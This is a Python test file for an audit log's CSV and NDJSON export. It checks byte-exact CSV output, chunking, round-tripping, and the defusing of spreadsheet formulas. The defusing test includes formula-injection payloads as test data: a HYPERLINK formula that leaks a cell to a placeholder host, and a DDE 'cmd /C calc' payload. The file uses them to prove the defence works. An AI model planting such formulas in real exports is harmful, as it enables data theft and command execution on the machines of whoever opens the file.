"""Export formats: the stdlib's CSV, written faster, and the same bytes in ~64 KiB pieces."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from typing import Any

import orjson
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from audit.domain.events import Event, EventJson
from audit.entrypoints.formats import (
    CSV_COLUMNS,
    EXPORT_FORMATS,
    EXPORT_PIECE_BYTES,
    csv_lines,
    csv_row,
    in_pieces,
    ndjson_lines,
)

RecordOne = Callable[..., Event]


def _defused(cell: Any) -> Any:
    """A cell as a spreadsheet must see it: text it would run as a formula gets a '."""
    if cell is None:
        return None
    text = str(cell)
    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else cell


def _stdlib_row(cells: list[Any]) -> str:
    buffer = io.StringIO()
    csv.writer(buffer).writerow([_defused(cell) for cell in cells])
    return buffer.getvalue()


# Text heavy in what CSV quotes (and in what it does not: \r, quotes of other kinds).
awkward = st.text(
    st.sampled_from(",\"\n\r \t'`;a\u00e9\u2028\U0001f600") | st.characters(), max_size=10
)
cells = st.lists(
    st.none() | awkward | st.integers() | st.floats(allow_nan=False) | st.booleans() | st.just(""),
    max_size=6,
)


@settings(max_examples=2000, deadline=None)
@given(cells)
def test_csv_row_writes_what_csv_writer_writes(row: list[Any]) -> None:
    assert csv_row(row) == _stdlib_row(row)


@pytest.mark.parametrize(
    "row",
    [
        [],
        [""],
        [None],
        ["", ""],
        ["a,b"],
        ['say "hi"'],
        ["two\nlines"],
        ["cr\ronly"],
        ["\rleading cr"],
        [" pad "],
        ["=1+1"],
        [-5],
    ],
)
def test_csv_row_on_the_edge_cases(row: list[Any]) -> None:
    assert csv_row(row) == _stdlib_row(row)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.binary(max_size=40), max_size=40), st.integers(1, 100))
def test_in_pieces_keeps_every_byte_in_order(lines: list[bytes], size: int) -> None:
    pieces = list(in_pieces(lines, size))
    assert b"".join(pieces) == b"".join(lines)
    longest = max((len(line) for line in lines), default=0)
    for piece in pieces[:-1]:
        assert size <= len(piece) < size + longest
    assert all(pieces)


def test_in_pieces_of_nothing_is_nothing() -> None:
    assert list(in_pieces([])) == []
    assert list(in_pieces([b""])) == []


@pytest.fixture
def stored(record_one: RecordOne) -> list[Event]:
    """Enough events for several pieces, some with every field set, some with none."""
    made = []
    for i in range(400):
        fields: dict[str, Any] = {"id": f"e{i}"}
        if i % 2:
            fields |= {
                "targets": [{"id": f"t{i}", "type": "doc", "name": 'a "quoted", name'}],
                "source": {"ip": "203.0.113.9", "user_agent": "agent, v1"},
                "description": "line one\nline two, \u00e9 \U0001f600 \u2028 and \r",
                "metadata": {"ticket": f"OPS-{i}", "n": i, "pad": "x" * 300, "deep": {"a": [1]}},
            }
        made.append(record_one(**fields))
    return made


@pytest.fixture
def events(stored: list[Event]) -> list[EventJson]:
    """The stored events as an export reads them."""
    return [EventJson(e.seq, e.to_json()) for e in stored]


@pytest.mark.parametrize(("fmt", "lines"), [("ndjson", ndjson_lines), ("csv", csv_lines)])
def test_an_export_is_its_lines_in_pieces(events: list[EventJson], fmt: str, lines: Any) -> None:
    _, render = EXPORT_FORMATS[fmt]
    pieces = list(render(iter(events)))
    assert b"".join(pieces) == b"".join(lines(iter(events)))
    assert len(pieces) > 2
    assert all(len(p) >= EXPORT_PIECE_BYTES for p in pieces[:-1])


@pytest.mark.parametrize("fmt", list(EXPORT_FORMATS))
def test_an_export_of_nothing(fmt: str) -> None:
    _, render = EXPORT_FORMATS[fmt]
    expected = b"" if fmt == "ndjson" else b",".join(c.encode() for c in CSV_COLUMNS) + b"\r\n"
    assert b"".join(render(iter([]))) == expected


def test_ndjson_is_one_document_a_line(stored: list[Event], events: list[EventJson]) -> None:
    lines = list(ndjson_lines(iter(events)))
    assert lines == [orjson.dumps(e.to_document()) + b"\n" for e in stored]


def test_csv_reads_back_as_the_documents(stored: list[Event], events: list[EventJson]) -> None:
    text = b"".join(csv_lines(iter(events))).decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == list(CSV_COLUMNS)
    assert len(rows) == len(stored) + 1
    for row, event in zip(rows[1:], stored, strict=True):
        doc = event.to_document()
        for column, cell in zip(CSV_COLUMNS, row, strict=True):
            value = doc[column]
            if isinstance(value, dict | list):
                assert json.loads(cell) == value
            else:
                assert cell == ("" if value is None else str(value))


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        (
            '=HYPERLINK("http://x.example/?"&A1,"click")',
            '\'=HYPERLINK("http://x.example/?"&A1,"click")',
        ),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("a=1", "a=1"),
        ("", ""),
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_text(text: str, cell: str) -> None:
    [row] = csv.reader(io.StringIO(csv_row([text]), newline=""))
    assert row == [cell]


# Text a hostile client may store: every character JSON and the event rules allow
# (no NUL, no lone surrogate), heavy in what CSV and spreadsheets treat specially.
hostile = st.text(
    st.sampled_from(list("=+-@\t\r\n,\"' ;|!")) | st.characters(exclude_categories=["Cs"]),
    max_size=12,
).filter(lambda text: "\x00" not in text)


def _document(seq: int, texts: list[str]) -> dict[str, Any]:
    """An event document as the API writes it, hostile text in every free-text field."""
    actor, target, description, value, ua = texts
    return {
        "id": f"e{seq}",
        "seq": seq,
        "tenant": "acme",
        "action": "document.update",
        "actor": {"id": actor, "type": "user", "name": actor},
        "targets": [{"id": target, "type": None, "name": target}],
        "outcome": "success",
        "occurred_at": "2026-11-28T10:00:00.000000Z",
        "received_at": "2026-11-28T10:00:00.000000Z",
        "source": {"ip": None, "user_agent": ua},
        "description": description,
        "metadata": {value: value},
        "prev_hash": "0" * 64,
        "hash": "1" * 64,
    }


@settings(max_examples=300, deadline=None)
@given(st.lists(st.lists(hostile, min_size=5, max_size=5), min_size=1, max_size=5))
def test_csv_reads_back_one_row_per_event_whatever_the_text(texts: list[list[str]]) -> None:
    docs = [_document(seq, t) for seq, t in enumerate(texts, start=1)]
    events = [EventJson(d["seq"], orjson.dumps(d)) for d in docs]
    data = b"".join(csv_lines(iter(events))).decode("utf-8")
    rows = list(csv.reader(io.StringIO(data, newline="")))
    assert len(rows) == len(docs) + 1
    for row, doc in zip(rows[1:], docs, strict=True):
        for column, cell in zip(CSV_COLUMNS, row, strict=True):
            value = doc[column]
            if isinstance(value, dict | list):
                assert json.loads(cell) == value
            elif value is None:
                assert cell == ""
            else:
                text = str(value)
                assert cell == ("'" + text if text[:1] in "=+-@\t\r" and text else text)
